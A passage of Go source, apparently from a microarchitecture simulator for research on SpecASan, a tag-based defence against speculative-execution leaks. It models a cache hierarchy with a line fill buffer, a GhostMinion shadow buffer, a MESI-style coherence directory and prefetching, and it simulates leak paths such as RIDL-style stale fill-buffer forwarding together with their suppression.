	live  int // occupied slots
	used  int // occupied + tombstone slots
}

type dirSlot struct {
	state uint8 // slotEmpty, slotLive or slotDead
	key   uint64
	val   dirEntry
}

const (
	slotEmpty uint8 = iota
	slotLive
	slotDead // tombstone: free for reuse, but probes continue past it
)

// dirHash spreads line addresses (multiples of the line size, so the low
// bits carry no entropy) over the table.
func dirHash(key uint64) uint64 {
	key *= 0x9e3779b97f4a7c15
	return key ^ key>>29
}

func newDirTable() *dirTable {
	return &dirTable{slots: make([]dirSlot, 256)}
}

// get returns the entry for key, or nil when absent.
func (t *dirTable) get(key uint64) *dirEntry {
	mask := uint64(len(t.slots) - 1)
	for i := dirHash(key) & mask; ; i = (i + 1) & mask {
		s := &t.slots[i]
		switch {
		case s.state == slotEmpty:
			return nil
		case s.state == slotLive && s.key == key:
			return &s.val
		}
	}
}

// getOrCreate returns the entry for key, inserting init when absent.
func (t *dirTable) getOrCreate(key uint64, init dirEntry) *dirEntry {
	if t.used*4 >= len(t.slots)*3 {
		t.rehash()
	}
	mask := uint64(len(t.slots) - 1)
	free := -1
	for i := dirHash(key) & mask; ; i = (i + 1) & mask {
		s := &t.slots[i]
		switch {
		case s.state == slotEmpty:
			if free >= 0 {
				s = &t.slots[free] // reuse the first tombstone on the probe path
			} else {
				t.used++
			}
			s.state = slotLive
			s.key = key
			s.val = init
			t.live++
			return &s.val
		case s.state == slotDead:
			if free < 0 {
				free = int(i)
			}
		case s.key == key:
			return &s.val
		}
	}
}

// del removes key's entry if present. The slot becomes a tombstone; no
// entries move, so outstanding entry pointers for other keys stay valid.
func (t *dirTable) del(key uint64) {
	mask := uint64(len(t.slots) - 1)
	for i := dirHash(key) & mask; ; i = (i + 1) & mask {
		s := &t.slots[i]
		switch {
		case s.state == slotEmpty:
			return
		case s.state == slotLive && s.key == key:
			s.state = slotDead
			s.val = dirEntry{}
			t.live--
			return
		}
	}
}

// rehash rebuilds the table, dropping tombstones. It doubles the capacity
// only when live entries (not tombstones) fill it, so churny delete/insert
// traffic recycles slots instead of growing without bound.
func (t *dirTable) rehash() {
	n := len(t.slots)
	if t.live*2 >= n {
		n *= 2
	}
	old := t.slots
	t.slots = make([]dirSlot, n)
	t.live, t.used = 0, 0
	mask := uint64(n - 1)
	for i := range old {
		s := &old[i]
		if s.state != slotLive {
			continue
		}
		for j := dirHash(s.key) & mask; ; j = (j + 1) & mask {
			d := &t.slots[j]
			if d.state == slotEmpty {
				*d = dirSlot{state: slotLive, key: s.key, val: s.val}
				t.live++
				t.used++
				break
			}
		}
	}
}
