// Package cache models the cache hierarchy of the simulated machine:
// per-core L1 instruction and data caches, a shared inclusive L2, MSHRs,
// the line fill buffer (LFB), the GhostMinion shadow buffer, and a
// MESI-lite directory for multi-core coherence.
//
// Functional data lives in the mem.Image (stores write it at commit), so the
// structures here model timing and, crucially for this paper, *which
// accesses are allowed to change them*. SpecASan's G3 goal — unsafe
// speculative accesses must leave no microarchitectural trace — is enforced
// here: a fill triggered by a tag-mismatching speculative access is
// suppressed at whatever level detected the mismatch, and only the tag-check
// outcome travels back to the core (modelled after the L1 signal / MSHR flag
// design of §3.3.1).
package cache

import (
	"fmt"

	"specasan/internal/mem"
	"specasan/internal/mte"
	"specasan/internal/obs"
)

// line is one cache line's metadata. Data bytes live in the memory image;
// lines carry the MESI state and fill timing.
type line struct {
	valid   bool
	addr    uint64 // line-aligned address
	state   mesi
	dirty   bool
	validAt uint64 // cycle at which the fill data is usable
	lastUse uint64
}

type mesi uint8

const (
	invalid mesi = iota
	shared
	exclusive
	modified
)

// Level is a single cache (L1I, L1D or L2).
type Level struct {
	name   string
	sets   int
	ways   int
	lineSz int
	hitLat uint64
	lines  []line // sets*ways, row-major
	mshr   []uint64
	port   []uint64 // per-port next-free cycle

	// Stats.
	Hits, Misses, Evictions, Writebacks, MSHRStalls uint64
}

// NewLevel builds a cache level. ports is the number of same-cycle access
// ports; mshrs bounds outstanding misses.
func NewLevel(name string, sizeBytes, ways, lineSz int, hitLat uint64, ports, mshrs int) (*Level, error) {
	if ways <= 0 || lineSz <= 0 {
		return nil, fmt.Errorf("cache %s: ways (%d) and line size (%d) must be positive", name, ways, lineSz)
	}
	sets := sizeBytes / (ways * lineSz)
	if sets == 0 || sets&(sets-1) != 0 {
		return nil, fmt.Errorf("cache %s: set count %d not a power of two", name, sets)
	}
	if ports <= 0 || mshrs <= 0 {
		return nil, fmt.Errorf("cache %s: ports (%d) and MSHRs (%d) must be positive", name, ports, mshrs)
	}
	return &Level{
		name: name, sets: sets, ways: ways, lineSz: lineSz, hitLat: hitLat,
		lines: make([]line, sets*ways),
		mshr:  make([]uint64, mshrs),
		port:  make([]uint64, ports),
	}, nil
}

func (l *Level) lineAddr(addr uint64) uint64 { return addr &^ uint64(l.lineSz-1) }

func (l *Level) setOf(addr uint64) int {
	return int((addr / uint64(l.lineSz)) & uint64(l.sets-1))
}

// lookup returns the way holding addr's line, or -1.
func (l *Level) lookup(addr uint64) int {
	la := l.lineAddr(addr)
	s := l.setOf(addr)
	for w := 0; w < l.ways; w++ {
		ln := &l.lines[s*l.ways+w]
		if ln.valid && ln.addr == la {
			return w
		}
	}
	return -1
}

func (l *Level) at(addr uint64, way int) *line {
	return &l.lines[l.setOf(addr)*l.ways+way]
}

// victim picks the LRU way in addr's set.
func (l *Level) victim(addr uint64) int {
	s := l.setOf(addr)
	best, bestUse := 0, ^uint64(0)
	for w := 0; w < l.ways; w++ {
		ln := &l.lines[s*l.ways+w]
		if !ln.valid {
			return w
		}
		if ln.lastUse < bestUse {
			best, bestUse = w, ln.lastUse
		}
	}
	return best
}

// reservePort returns the cycle at which a port is free, booking it.
func (l *Level) reservePort(now uint64) uint64 {
	best := 0
	for i := 1; i < len(l.port); i++ {
		if l.port[i] < l.port[best] {
			best = i
		}
	}
	start := now
	if l.port[best] > start {
		start = l.port[best]
	}
	l.port[best] = start + 1
	return start
}

// reserveMSHR books an MSHR slot until freeAt; returns the cycle at which a
// slot became available (possibly later than now — structural stall).
func (l *Level) reserveMSHR(now, busyFor uint64) uint64 {
	best := 0
	for i := 1; i < len(l.mshr); i++ {
		if l.mshr[i] < l.mshr[best] {
			best = i
		}
	}
	start := now
	if l.mshr[best] > start {
		l.MSHRStalls += l.mshr[best] - start
		start = l.mshr[best]
	}
	l.mshr[best] = start + busyFor
	return start
}

// mshrOccupancy returns how many MSHRs are busy at the given cycle — the
// Speculative-Interference observable.
func (l *Level) mshrOccupancy(now uint64) int {
	n := 0
	for _, b := range l.mshr {
		if b > now {
			n++
		}
	}
	return n
}

// install fills addr's line, returning the evicted dirty line address (or 0)
// so the caller can account the writeback.
func (l *Level) install(addr uint64, now, validAt uint64, st mesi) (wbAddr uint64, wb bool) {
	w := l.victim(addr)
	ln := l.at(addr, w)
	if ln.valid {
		l.Evictions++
		if ln.dirty {
			wbAddr, wb = ln.addr, true
			l.Writebacks++
		}
	}
	*ln = line{valid: true, addr: l.lineAddr(addr), state: st, validAt: validAt, lastUse: now}
	return wbAddr, wb
}

// invalidate drops addr's line if present, reporting whether it was dirty.
func (l *Level) invalidate(addr uint64) (wasDirty, present bool) {
	if w := l.lookup(addr); w >= 0 {
		ln := l.at(addr, w)
		ln.valid = false
		return ln.dirty, true
	}
	return false, false
}

// Contains reports whether addr's line is valid (and filled) at cycle now —
// the probe the Flush+Reload analysis uses.
func (l *Level) Contains(addr uint64, now uint64) bool {
	w := l.lookup(addr)
	return w >= 0 && l.at(addr, w).validAt <= now
}

// lfbEntry is one line-fill-buffer slot: a line in transit from below,
// holding a data snapshot (the in-flight bytes MDS attacks sample) and
// usable for hit-under-fill once dataAt passes.
type lfbEntry struct {
	valid    bool
	addr     uint64
	dataAt   uint64
	snapshot []byte
	allocAt  uint64
}

// LFB is the line fill buffer (§3.3.3). Entries carry the allocation tags
// of their line implicitly (tag checks consult authoritative tag storage;
// the entry's address identifies the granules), so SpecASan's LFB tag check
// is a lookup keyed by the entry address.
type LFB struct {
	entries []lfbEntry
	Hits    uint64
	Fills   uint64
}

// NewLFB returns an LFB with n entries.
func NewLFB(n int) *LFB { return &LFB{entries: make([]lfbEntry, n)} }

// find returns the entry for lineAddr if its fill is still in flight (or
// just landed): an LFB entry retires once the line is written to the cache.
func (f *LFB) find(lineAddr uint64, now uint64) *lfbEntry {
	for i := range f.entries {
		e := &f.entries[i]
		if e.valid && e.addr == lineAddr {
			if e.dataAt+1 < now {
				e.valid = false // retired: the line reached the cache
				return nil
			}
			return e
		}
	}
	return nil
}

// allocate takes the oldest slot for a new in-flight line. The returned
// entry's snapshot is sized to lineSz and must be filled by the caller with
// the in-flight bytes; the buffer behind it is reused across fills so
// steady-state allocation is zero.
func (f *LFB) allocate(lineAddr uint64, now, dataAt uint64, lineSz int) *lfbEntry {
	var victim *lfbEntry
	for i := range f.entries {
		e := &f.entries[i]
		if !e.valid {
			victim = e
			break
		}
		if victim == nil || e.allocAt < victim.allocAt {
			victim = e
		}
	}
	buf := victim.snapshot[:0]
	if cap(buf) < lineSz {
		buf = make([]byte, lineSz)
	}
	*victim = lfbEntry{valid: true, addr: lineAddr, dataAt: dataAt, snapshot: buf[:lineSz], allocAt: now}
	f.Fills++
	return victim
}

// newest returns the most recently allocated entry still in flight at now —
// what a faulting load transiently samples in RIDL/ZombieLoad — or nil.
func (f *LFB) newest(now uint64) *lfbEntry {
	var best *lfbEntry
	for i := range f.entries {
		e := &f.entries[i]
		if e.valid && e.dataAt+1 >= now && (best == nil || e.allocAt > best.allocAt) {
			best = e
		}
	}
	return best
}

// Occupancy returns the number of valid in-flight entries at cycle now.
func (f *LFB) Occupancy(now uint64) int {
	n := 0
	for i := range f.entries {
		if f.entries[i].valid && f.entries[i].dataAt > now {
			n++
		}
	}
	return n
}

// ghostEntry is one GhostMinion shadow-buffer slot: a speculative fill kept
// out of the cache hierarchy until the triggering load commits.
type ghostEntry struct {
	valid   bool
	addr    uint64
	dataAt  uint64
	lastUse uint64
}

// Ghost is the GhostMinion shadow fill structure.
type Ghost struct {
	entries  []ghostEntry
	Hits     uint64
	Fills    uint64
	Promotes uint64
	Refetch  uint64 // commit-time promotions that missed the ghost buffer
}

// NewGhost returns a ghost buffer with n line entries.
func NewGhost(n int) *Ghost { return &Ghost{entries: make([]ghostEntry, n)} }

func (g *Ghost) find(lineAddr uint64) *ghostEntry {
	for i := range g.entries {
		if g.entries[i].valid && g.entries[i].addr == lineAddr {
			return &g.entries[i]
		}
	}
	return nil
}

func (g *Ghost) insert(lineAddr uint64, now, dataAt uint64) {
	var victim *ghostEntry
	for i := range g.entries {
		e := &g.entries[i]
		if !e.valid {
			victim = e
			break
		}
		if victim == nil || e.lastUse < victim.lastUse {
			victim = e
		}
	}
	*victim = ghostEntry{valid: true, addr: lineAddr, dataAt: dataAt, lastUse: now}
	g.Fills++
}

// drop removes the entry for lineAddr (squash cleanup).
func (g *Ghost) drop(lineAddr uint64) {
	if e := g.find(lineAddr); e != nil {
		e.valid = false
	}
}

// dirEntry tracks L1 copies of a line for coherence.
type dirEntry struct {
	sharers  uint32 // bitmask of cores with an L1 copy
	owner    int8   // core holding M/E, or -1
	modified bool
}

// Hierarchy is the full memory system of one simulated machine: per-core
// L1I/L1D + LFB (+ ghost buffer), a shared L2, a directory, and the memory
// controller.
type Hierarchy struct {
	Img   *mem.Image
	L1I   []*Level
	L1D   []*Level
	LFBs  []*LFB
	Ghost []*Ghost
	L2    *Level
	Ctrl  *mem.Controller
	dir   *dirTable

	lineSz     int
	mteOn      bool
	lfbTagging bool

	// Next-line prefetcher (§6 future work): on a demand miss, the line
	// after the missing one is fetched too. With prefetchChecked, the
	// prefetch is dropped unless the next line's allocation tags match the
	// triggering line's — the "secure prefetcher" extension the paper
	// leaves to future work.
	prefetchOn      bool
	prefetchChecked bool

	// Prefetcher stats.
	Prefetches        uint64
	PrefetchesBlocked uint64
	PrefetchSecretHit func(lineAddr uint64) // leak-analysis hook

	// Coherence penalty constants.
	upgradeLat  uint64 // invalidating remote sharers
	transferLat uint64 // dirty line transfer from a remote L1

	// Stats.
	TagChecks     uint64
	TagMismatches uint64
	BlockedFills  uint64 // fills suppressed for unsafe speculative accesses
	LFBForwards   uint64 // baseline stale-LFB forwards (RIDL behaviour)
	CoherenceInv  uint64
	CoherenceXfer uint64

	// Chaos fault-injection hooks (internal/chaos). Both perturb timing
	// only — the data a request eventually returns is unchanged.
	//
	// ChaosMemLatency, when set, returns extra cycles added to a DRAM line
	// fetch (memory/tag-fetch latency jitter).
	ChaosMemLatency func(now uint64) uint64
	// ChaosLFBDelay, when set, returns extra cycles before a new LFB
	// allocation's data becomes usable (fill-buffer allocation pressure).
	ChaosLFBDelay func(now uint64) uint64

	// Obs/Met, when set, receive line-fill-buffer stall events and samples
	// for the requesting core (internal/obs hooks; nil = disabled, one
	// pointer compare on the access path).
	Obs *obs.Tracer
	Met *obs.Metrics
}

// HierConfig carries the geometry for NewHierarchy.
type HierConfig struct {
	Cores      int
	L1ISizeKB  int
	L1IWays    int
	L1ILatency uint64
	L1DSizeKB  int
	L1DWays    int
	L1DLatency uint64
	L2SizeKB   int
	L2Ways     int
	L2Latency  uint64
	LineBytes  int
	LFBEntries int
	MSHRs      int
	GhostSize  int
	LoadPorts  int
	DRAM       mem.DRAMConfig
	MTEOn      bool // platform fetches and checks MTE tags
	LFBTagging bool // SpecASan LFB extension active
	// Prefetcher configuration (§6 extension).
	PrefetcherOn    bool
	PrefetchChecked bool
}

// NewHierarchy builds the memory system.
func NewHierarchy(cfg HierConfig, img *mem.Image) (*Hierarchy, error) {
	l2, err := NewLevel("L2", cfg.L2SizeKB*1024, cfg.L2Ways, cfg.LineBytes, cfg.L2Latency, 2, cfg.MSHRs*2)
	if err != nil {
		return nil, err
	}
	h := &Hierarchy{
		Img:             img,
		L2:              l2,
		Ctrl:            mem.NewController(cfg.DRAM, cfg.MTEOn),
		dir:             newDirTable(),
		lineSz:          cfg.LineBytes,
		mteOn:           cfg.MTEOn,
		lfbTagging:      cfg.LFBTagging,
		prefetchOn:      cfg.PrefetcherOn,
		prefetchChecked: cfg.PrefetchChecked,
		upgradeLat:      8,
		transferLat:     16,
	}
	for c := 0; c < cfg.Cores; c++ {
		l1i, err := NewLevel(fmt.Sprintf("L1I%d", c), cfg.L1ISizeKB*1024, cfg.L1IWays, cfg.LineBytes, cfg.L1ILatency, 1, cfg.MSHRs)
		if err != nil {
			return nil, err
		}
		l1d, err := NewLevel(fmt.Sprintf("L1D%d", c), cfg.L1DSizeKB*1024, cfg.L1DWays, cfg.LineBytes, cfg.L1DLatency, cfg.LoadPorts, cfg.MSHRs)
		if err != nil {
			return nil, err
		}
		h.L1I = append(h.L1I, l1i)
		h.L1D = append(h.L1D, l1d)
		h.LFBs = append(h.LFBs, NewLFB(cfg.LFBEntries))
		h.Ghost = append(h.Ghost, NewGhost(cfg.GhostSize))
	}
	return h, nil
}

func (h *Hierarchy) lineAddr(addr uint64) uint64 { return addr &^ uint64(h.lineSz-1) }

// dirFor returns (creating) the directory entry for a line.
func (h *Hierarchy) dirFor(lineAddr uint64) *dirEntry {
	return h.dir.getOrCreate(lineAddr, dirEntry{owner: -1})
}

// tagCheck performs the MTE check for a pointer against authoritative tag
// storage. It returns true when the platform has MTE off (nothing to check).
func (h *Hierarchy) tagCheck(ptr uint64, size int) (ok bool, lock mte.Tag) {
	lock = h.Img.Tags.Lock(ptr)
	if !h.mteOn {
		return true, lock
	}
	h.TagChecks++
	if h.Img.Tags.CheckAccess(ptr, size) {
		return true, lock
	}
	h.TagMismatches++
	return false, lock
}

// AccessReq describes one data-side memory access from a core.
type AccessReq struct {
	Core  int
	Ptr   uint64 // full pointer including the MTE key byte
	Size  int
	Write bool
	Now   uint64

	// Spec marks the access as speculative at issue time; BlockUnsafe makes
	// a tag mismatch suppress data return and fills (SpecASan).
	Spec        bool
	BlockUnsafe bool
	// Ghost redirects speculative fills to the ghost buffer (GhostMinion).
	Ghost bool
	// FaultingSample requests the baseline RIDL/ZombieLoad behaviour: the
	// access is an assisted/faulting load that transiently samples the LFB.
	FaultingSample bool
}

// AccessRes is the outcome of a data-side access.
type AccessRes struct {
	ReadyAt  uint64 // cycle the response (data or outcome-only) reaches the core
	TagOK    bool
	Lock     mte.Tag
	Blocked  bool   // unsafe speculative access: no data returned, no fill
	ServedBy string // "l1", "lfb", "ghost", "l2", "mem", "lfb-stale"
	// StaleData holds transiently forwarded in-flight bytes when the
	// baseline LFB leak path triggered (ServedBy == "lfb-stale");
	// StaleAddr is the line address the bytes belong to.
	StaleData []byte
	StaleAddr uint64
	// MSHROccupancy snapshots L1D MSHR pressure after the access, for the
	// contention-channel analysis.
	MSHROccupancy int
}

// Probe reports whether ptr's line is already present in core's L1D — and,
// when includeLFB, whether its fill is in flight in the LFB — without
// performing an access: no port reservation, no LRU or hit/miss counter
// update, no fill, no tag check. Issue-time policy gates (the Delay-on-Miss
// defence) use it to classify a speculative load as hit or miss before
// deciding whether it may touch the hierarchy at all.
func (h *Hierarchy) Probe(core int, ptr uint64, now uint64, includeLFB bool) bool {
	addr := mte.Strip(ptr)
	if h.L1D[core].lookup(addr) >= 0 {
		return true
	}
	if !includeLFB {
		return false
	}
	la := h.lineAddr(addr)
	for i := range h.LFBs[core].entries {
		e := &h.LFBs[core].entries[i]
		if e.valid && e.addr == la && e.dataAt+1 >= now {
			return true
		}
	}
	return false
}

// Access performs a data-side cache access and returns its timing and
// tag-check outcome. It is the L1D entry point used by the LSQ for loads and
// by commit for stores.
func (h *Hierarchy) Access(req AccessReq) AccessRes {
	l1 := h.L1D[req.Core]
	lfb := h.LFBs[req.Core]
	addr := mte.Strip(req.Ptr)
	la := h.lineAddr(addr)
	tagOK, lock := h.tagCheck(req.Ptr, req.Size)
	blockData := !tagOK && req.Spec && req.BlockUnsafe

	start := l1.reservePort(req.Now)
	res := AccessRes{TagOK: tagOK, Lock: lock}

	// RIDL/ZombieLoad baseline behaviour: a faulting load transiently
	// receives whatever the newest LFB entry holds instead of architectural
	// data. With SpecASan LFB tagging the forward requires a tag match.
	if req.FaultingSample {
		if e := lfb.newest(req.Now); e != nil {
			match := true
			if h.lfbTagging && h.mteOn {
				match = mte.Match(mte.Key(req.Ptr), h.Img.Tags.Lock(e.addr))
			}
			if match && !blockData {
				h.LFBForwards++
				res.ReadyAt = start + l1.hitLat
				res.ServedBy = "lfb-stale"
				res.StaleData = e.snapshot
				res.StaleAddr = e.addr
				res.MSHROccupancy = l1.mshrOccupancy(res.ReadyAt)
				return res
			}
		}
		// Nothing to sample (or forward denied): outcome-only response.
		res.ReadyAt = start + l1.hitLat
		res.Blocked = true
		res.ServedBy = "lfb"
		return res
	}

	// L1 hit path.
	if w := l1.lookup(addr); w >= 0 {
		ln := l1.at(addr, w)
		ready := start + l1.hitLat
		if ln.validAt > ready {
			ready = ln.validAt // hit under fill
		}
		ln.lastUse = req.Now
		l1.Hits++
		if req.Write {
			ready = h.ensureWritable(req.Core, la, ready)
			ln.state = modified
			ln.dirty = true
		}
		res.ReadyAt = ready
		res.Blocked = blockData
		res.ServedBy = "l1"
		res.MSHROccupancy = l1.mshrOccupancy(ready)
		return res
	}
	l1.Misses++

	// LFB hit: line already in flight.
	if e := lfb.find(la, req.Now); e != nil {
		lfb.Hits++
		ready := start + l1.hitLat
		if e.dataAt > ready {
			// Hit under fill: the access waits for the in-flight line.
			if stall := e.dataAt - ready; h.Obs != nil || h.Met != nil {
				if t := h.Obs.Core(req.Core); t != nil {
					t.Record(req.Now, 0, mte.Strip(req.Ptr), obs.EvLFBStall, stall)
				}
				if cm := h.Met.Core(req.Core); cm != nil {
					cm.LFBStall.Observe(stall)
				}
			}
			ready = e.dataAt
		}
		if req.Write {
			ready = h.ensureWritable(req.Core, la, ready)
		}
		res.ReadyAt = ready
		res.Blocked = blockData
		res.ServedBy = "lfb"
		res.MSHROccupancy = l1.mshrOccupancy(ready)
		return res
	}

	// Ghost buffer hit (GhostMinion).
	if req.Ghost {
		if g := h.Ghost[req.Core].find(la); g != nil {
			h.Ghost[req.Core].Hits++
			g.lastUse = req.Now
			ready := start + l1.hitLat + 1 // ghost access is slightly slower than L1
			if g.dataAt > ready {
				ready = g.dataAt
			}
			res.ReadyAt = ready
			res.ServedBy = "ghost"
			res.MSHROccupancy = l1.mshrOccupancy(ready)
			return res
		}
	}

	// Miss: fetch from L2/memory. Blocked (unsafe speculative) fills and
	// ghost fills must not install anywhere in the hierarchy (G3 /
	// GhostMinion invisibility); the request still consumes bandwidth.
	ghostFill := req.Ghost && req.Spec && !req.Write
	install := !blockData && !ghostFill
	dataAt, servedBy := h.fetchFromL2(req.Core, la, start+l1.hitLat, req.Write, install)

	// Unsafe speculative miss under SpecASan: the level that detected the
	// mismatch (modelled via the MSHR flag) returns only the outcome; no
	// fill happens anywhere (G3).
	if blockData {
		h.BlockedFills++
		res.ReadyAt = dataAt // outcome returns when the check completed
		res.Blocked = true
		res.ServedBy = servedBy
		res.MSHROccupancy = l1.mshrOccupancy(dataAt)
		return res
	}

	// GhostMinion: speculative fills stay in the ghost buffer.
	if ghostFill {
		h.Ghost[req.Core].insert(la, req.Now, dataAt)
		res.ReadyAt = dataAt
		res.ServedBy = servedBy
		res.MSHROccupancy = l1.mshrOccupancy(dataAt)
		return res
	}

	// Normal fill: MSHR + LFB track the in-flight line, then install in L1.
	if h.ChaosLFBDelay != nil {
		dataAt += h.ChaosLFBDelay(req.Now)
	}
	mshrStart := l1.reserveMSHR(start, dataAt-start)
	_ = mshrStart
	h.Img.ReadInto(la, lfb.allocate(la, req.Now, dataAt, h.lineSz).snapshot)
	if h.prefetchOn && !req.Write {
		h.prefetchNext(req.Core, la, start+l1.hitLat)
	}
	st := shared
	d := h.dirFor(la)
	if req.Write {
		dataAt = h.ensureWritable(req.Core, la, dataAt)
		st = modified
	} else if d.sharers == 0 {
		st = exclusive
	}
	if wbAddr, wb := l1.install(addr, req.Now, dataAt, st); wb {
		h.writebackToL2(wbAddr, req.Now)
	}
	if req.Write {
		h.dirFor(la).modified = true
		l1.at(addr, l1.lookup(addr)).dirty = true
	}
	d.sharers |= 1 << uint(req.Core)
	if st != shared {
		d.owner = int8(req.Core)
	}
	res.ReadyAt = dataAt
	res.ServedBy = servedBy
	res.MSHROccupancy = l1.mshrOccupancy(dataAt)
	return res
}

// prefetchNext issues the next-line prefetch at miss-detection time for a
// demand miss of lineAddr. The checked variant refuses to cross an allocation-tag boundary:
// a prefetch that would pull differently-tagged (or untagged-to-tagged)
// memory into the cache is dropped, closing the §6 prefetch leak.
func (h *Hierarchy) prefetchNext(core int, lineAddr uint64, triggerDataAt uint64) {
	next := lineAddr + uint64(h.lineSz)
	if h.L1D[core].lookup(next) >= 0 || h.LFBs[core].find(next, triggerDataAt) != nil {
		return
	}
	if h.prefetchChecked && h.mteOn {
		// The next line may only be prefetched when its tag layout matches
		// the triggering line granule-for-granule: a prefetch across an
		// allocation boundary is refused.
		for g := uint64(0); g < uint64(h.lineSz)/mte.GranuleBytes; g++ {
			off := g * mte.GranuleBytes
			if h.Img.Tags.Lock(next+off) != h.Img.Tags.Lock(lineAddr+off) {
				h.PrefetchesBlocked++
				return
			}
		}
	}
	h.Prefetches++
	if h.PrefetchSecretHit != nil {
		h.PrefetchSecretHit(next)
	}
	dataAt, _ := h.fetchFromL2(core, next, triggerDataAt, false, true)
	if wbAddr, wb := h.L1D[core].install(next, triggerDataAt, dataAt+2, shared); wb {
		h.writebackToL2(wbAddr, triggerDataAt)
	}
	h.dirFor(next).sharers |= 1 << uint(core)
}

// ensureWritable obtains exclusive ownership of a line for a store,
// invalidating remote sharers; returns the (possibly delayed) ready cycle.
func (h *Hierarchy) ensureWritable(core int, lineAddr uint64, ready uint64) uint64 {
	d := h.dirFor(lineAddr)
	others := d.sharers &^ (1 << uint(core))
	if others != 0 {
		for c := 0; c < len(h.L1D); c++ {
			if others&(1<<uint(c)) != 0 {
				h.L1D[c].invalidate(lineAddr)
				h.CoherenceInv++
			}
		}
		ready += h.upgradeLat
	}
	d.sharers = 1 << uint(core)
	d.owner = int8(core)
	d.modified = true
	return ready
}

// fetchFromL2 obtains a line for core at cycle now, returning when the data
// arrives at the L1 boundary and which level served it. install=false
// (blocked or ghosted fills) leaves the L2 untouched — not even replacement
// state changes.
func (h *Hierarchy) fetchFromL2(core int, lineAddr uint64, now uint64, forWrite, install bool) (dataAt uint64, servedBy string) {
	// Remote-M transfer: another L1 holds the newest copy.
	d := h.dirFor(lineAddr)
	if d.modified && d.owner >= 0 && int(d.owner) != core {
		oc := int(d.owner)
		h.L1D[oc].invalidate(lineAddr)
		if !forWrite {
			// Downgrade: keep a shared copy in L2; for simplicity the
			// remote copy is dropped and both read from L2 afterwards.
			d.modified = false
			d.owner = -1
		}
		h.CoherenceXfer++
		start := h.L2.reservePort(now)
		return start + h.L2.hitLat + h.transferLat, "remote"
	}

	start := h.L2.reservePort(now)
	if w := h.L2.lookup(lineAddr); w >= 0 {
		ln := h.L2.at(lineAddr, w)
		ready := start + h.L2.hitLat
		if ln.validAt > ready {
			ready = ln.validAt
		}
		if install {
			ln.lastUse = now // no replacement-state trace otherwise
		}
		h.L2.Hits++
		return ready, "l2"
	}
	h.L2.Misses++
	reqAt := h.L2.reserveMSHR(start+h.L2.hitLat, h.Ctrl.Latency())
	memReady := h.Ctrl.FetchLine(reqAt)
	if h.ChaosMemLatency != nil {
		memReady += h.ChaosMemLatency(now)
	}
	if !install {
		return memReady, "mem"
	}
	if wbAddr, wb := h.L2.install(lineAddr, now, memReady, shared); wb {
		h.Ctrl.Writeback(now)
		h.dir.del(wbAddr) // inclusive: L1 copies of the victim are gone too
		for c := range h.L1D {
			h.L1D[c].invalidate(wbAddr)
		}
	}
	return memReady, "mem"
}

// writebackToL2 accounts an L1 dirty eviction.
func (h *Hierarchy) writebackToL2(lineAddr uint64, now uint64) {
	if w := h.L2.lookup(lineAddr); w >= 0 {
		h.L2.at(lineAddr, w).dirty = true
		return
	}
	// L1 victim no longer in L2 (rare with inclusion): send to memory.
	h.Ctrl.Writeback(now)
}

// PromoteGhost installs a ghost-buffer line into the cache hierarchy when
// its load commits (GhostMinion). Returns the commit-side latency cost.
func (h *Hierarchy) PromoteGhost(core int, ptr uint64, now uint64) uint64 {
	g := h.Ghost[core]
	addr := mte.Strip(ptr)
	la := h.lineAddr(addr)
	if h.L1D[core].lookup(addr) >= 0 {
		g.drop(la)
		return 0
	}
	if e := g.find(la); e != nil {
		g.Promotes++
		g.drop(la)
		if wbAddr, wb := h.L1D[core].install(addr, now, now+1, exclusive); wb {
			h.writebackToL2(wbAddr, now)
		}
		d := h.dirFor(la)
		d.sharers |= 1 << uint(core)
		return 1
	}
	// Evicted from the ghost buffer before commit: refetch (the
	// GhostMinion capacity cost).
	g.Refetch++
	dataAt, _ := h.fetchFromL2(core, la, now, false, true)
	if wbAddr, wb := h.L1D[core].install(addr, now, dataAt, shared); wb {
		h.writebackToL2(wbAddr, now)
	}
	h.dirFor(la).sharers |= 1 << uint(core)
	return 0 // commit does not stall on the refetch; it proceeds in background
}

// DropGhost discards a ghost entry on squash.
func (h *Hierarchy) DropGhost(core int, ptr uint64) {
	h.Ghost[core].drop(h.lineAddr(mte.Strip(ptr)))
}

// FlushLine implements DC CIVAC: clean and invalidate a line in every cache,
// the LFBs and the ghost buffers.
func (h *Hierarchy) FlushLine(ptr uint64, now uint64) uint64 {
	addr := mte.Strip(ptr)
	la := h.lineAddr(addr)
	for c := range h.L1D {
		if dirty, present := h.L1D[c].invalidate(la); present && dirty {
			h.writebackToL2(la, now)
		}
		if e := h.LFBs[c].find(la, now); e != nil {
			e.valid = false
		}
		h.Ghost[c].drop(la)
	}
	if dirty, present := h.L2.invalidate(la); present && dirty {
		h.Ctrl.Writeback(now)
	}
	h.dir.del(la)
	return now + 8 // maintenance-op latency
}

// ChaosEvictLine flushes the idx-th (mod occupancy) valid line of core's L1D
// — the chaos injector's random-eviction primitive. Going through FlushLine
// keeps the eviction architecturally safe: dirty data is written back and
// every copy (L1s, L2, LFBs, ghost buffers, directory) is dropped
// consistently. Returns false when the L1D holds no valid line.
func (h *Hierarchy) ChaosEvictLine(core int, idx int, now uint64) bool {
	if core < 0 || core >= len(h.L1D) {
		return false
	}
	l1 := h.L1D[core]
	n := 0
	for i := range l1.lines {
		if l1.lines[i].valid {
			n++
		}
	}
	if n == 0 {
		return false
	}
	k := idx % n
	for i := range l1.lines {
		if !l1.lines[i].valid {
			continue
		}
		if k == 0 {
			h.FlushLine(l1.lines[i].addr, now)
			return true
		}
		k--
	}
	return false
}

// FetchInst models an instruction fetch: L1I, then shared L2.
func (h *Hierarchy) FetchInst(core int, pc uint64, now uint64) (readyAt uint64) {
	l1 := h.L1I[core]
	addr := mte.Strip(pc)
	start := l1.reservePort(now)
	if w := l1.lookup(addr); w >= 0 {
		ln := l1.at(addr, w)
		ready := start + l1.hitLat
		if ln.validAt > ready {
			ready = ln.validAt
		}
		ln.lastUse = now
		l1.Hits++
		return ready
	}
	l1.Misses++
	dataAt, _ := h.fetchFromL2(core, h.lineAddr(addr), start+l1.hitLat, false, true)
	if wbAddr, wb := l1.install(addr, now, dataAt, shared); wb {
		h.writebackToL2(wbAddr, now)
	}
	return dataAt
}

// InL1D reports whether ptr's line is present and filled in core's L1D at
// cycle now — the side-channel observable for the leak analysis.
func (h *Hierarchy) InL1D(core int, ptr uint64, now uint64) bool {
	return h.L1D[core].Contains(h.lineAddr(mte.Strip(ptr)), now)
}

// InAnyCache reports whether ptr's line left a trace anywhere (L1s or L2).
func (h *Hierarchy) InAnyCache(ptr uint64, now uint64) bool {
	la := h.lineAddr(mte.Strip(ptr))
	for c := range h.L1D {
